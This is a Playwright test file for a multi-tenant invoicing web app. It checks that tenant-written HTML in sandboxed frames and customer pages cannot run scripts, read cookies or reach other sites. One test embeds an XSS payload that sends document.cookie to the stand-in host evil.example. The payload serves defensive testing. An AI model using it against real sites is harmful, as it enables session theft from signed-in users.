import { afterAll, beforeAll, expect, test } from '@jest/globals';
import type { Browser, BrowserContext, Page } from 'playwright-core';
import { successBody, type TestApi } from '../support/api.ts';
import { type Site, startSite } from '../support/browser.ts';
import { HOSTILE, type HostileShop, hostileShop } from '../support/hostileShop.ts';
import { addMember, type Credentials } from '../support/oauth.ts';

/** What tenants write, shown to a member who is signed in: in a sandboxed frame it runs nothing, reads no cookie and leads nowhere. */

let site: Site;
let api: TestApi;
let browser: Browser;
let credentials: Credentials;
let shop: HostileShop;

beforeAll(async () => {
  site = await startSite();
  ({ api, browser } = site);
  credentials = await addMember(api, api.live.account, 'ann@acme.example');
  shop = await hostileShop(api, api.sandbox);
});
afterAll(() => site?.close());

/** A page of our origin without a policy of its own, so that only the frame protects it. */
const FRAMING = `<title>ours</title><iframe sandbox="" title="Preview" style="width:900px;height:700px"></iframe>`;
const framing = () => `${api.deps.publicUrl}/framing`;

interface Looking {
  context: BrowserContext;
  page: Page;
  /** Addresses of other sites that were asked for, with what asked. */
  left: string[];
}

/** A browser in which a member is signed in, and which has a cookie that scripts of our origin could read. */
async function signedIn(): Promise<Looking> {
  const context = await browser.newContext();
  const left: string[] = [];
  await context.route(/evil\.example/, (route) => {
    left.push(`${route.request().resourceType()} ${route.request().url()}`);
    return route.fulfill({ status: 200, contentType: 'text/html', body: '' });
  });
  await context.route('**/framing', (route) => route.fulfill({ contentType: 'text/html', body: FRAMING }));
  const page = await context.newPage();
  await page.goto(`${api.deps.publicUrl}/accounts`);
  await page.getByLabel('Email').fill(credentials.email);
  await page.getByLabel('Password').fill(credentials.password);
  await page.getByRole('button', { name: 'Sign in', exact: true }).click();
  await page.getByRole('heading', { name: 'Your accounts' }).waitFor();
  await context.addCookies([{ name: 'readable', value: 'secret', url: api.deps.publicUrl }]);
  expect(await page.evaluate('document.cookie')).toBe('readable=secret');
  return { context, page, left };
}

/** All HTML of the business that the API gives to a page of ours. */
async function htmlOfTenant(): Promise<Record<string, string>> {
  const { sandbox } = api;
  const object = { type: 'invoice', id: shop.invoice.id };
  const { page, mail } = successBody(await sandbox.post(`/themes/${shop.theme}/preview`, { object }));
  const path = '/email_templates/new_invoice_email-en/preview';
  const { html } = successBody(await sandbox.post(path, { object }));
  return { page, mail, html };
}

/** Waits until what the page has begun so far has been sent: a request that begins later is answered. */
async function settled(page: Page): Promise<void> {
  await page.evaluate('new Promise((resolve) => requestAnimationFrame(() => requestAnimationFrame(resolve)))');
  await page.context().request.get(`${api.deps.publicUrl}/health`);
}

/** Shows HTML in a frame of a page of our origin, and does what a member might do in it. */
async function frame({ page }: Looking, html: string): Promise<string> {
  await page.goto(framing());
  await page.evaluate(`document.querySelector('iframe').srcdoc = ${JSON.stringify(html)}`);
  await page.frameLocator('iframe').locator('body *').first().waitFor({ state: 'attached' });
  const inside = page.frames().find((one) => one.parentFrame() !== null);
  await inside?.waitForLoadState();
  const origin = await inside?.evaluate('self.origin');
  for (const name of ['Leave', 'Run', 'Send']) {
    const target = page.frameLocator('iframe').getByText(name, { exact: true }).first();
    if ((await target.count()) > 0) await target.click({ force: true });
  }
  await settled(page);
  return String(origin);
}

/** Requests of other kinds than pictures, which mails may have. */
const led = ({ left }: Looking) => left.filter((one) => !one.startsWith('image '));

test('previews of a hostile business do nothing in the frame of a page of ours', async () => {
  for (const [name, html] of Object.entries(await htmlOfTenant())) {
    const looking = await signedIn();
    expect(html.length).toBeGreaterThan(100);
    const origin = await frame(looking, html);
    expect({ name, origin, title: await looking.page.title(), url: looking.page.url(), led: led(looking) }).toEqual({
      name,
      origin: 'null',
      title: 'ours',
      url: framing(),
      led: [],
    });
    await looking.context.close();
  }
});

test('HTML that nothing cleaned runs nothing in such a frame, cannot leave it and reads no cookie', async () => {
  const looking = await signedIn();
  const read = `<script>top.document.title = document.cookie; fetch('https://evil.example/' + document.cookie)</script>`;
  await frame(looking, `${HOSTILE.replace(/<meta[^>]*>|<iframe[^>]*><\/iframe>/g, '')}${read}`);
  expect([await looking.page.title(), looking.page.url(), led(looking)]).toEqual(['ours', framing(), []]);
  await looking.context.close();
});

test('an uploaded page is saved and not shown', async () => {
  const looking = await signedIn();
  const saving = looking.page.waitForEvent('download');
  await looking.page.goto(shop.file.url).catch(() => undefined);
  expect((await saving).suggestedFilename()).toBe('page.html');
  expect(led(looking)).toEqual([]);
  await looking.context.close();
});

test('pages of customers run nothing that a business wrote', async () => {
  for (const url of [shop.invoice.url, shop.invoice.payment_url, shop.estimate.url]) {
    const looking = await signedIn();
    await looking.page.goto(url);
    await settled(looking.page);
    expect({ url, at: looking.page.url(), led: looking.left }).toEqual({ url, at: url, led: [] });
    expect(await looking.page.title()).not.toBe('ran');
    await looking.context.close();
  }
});
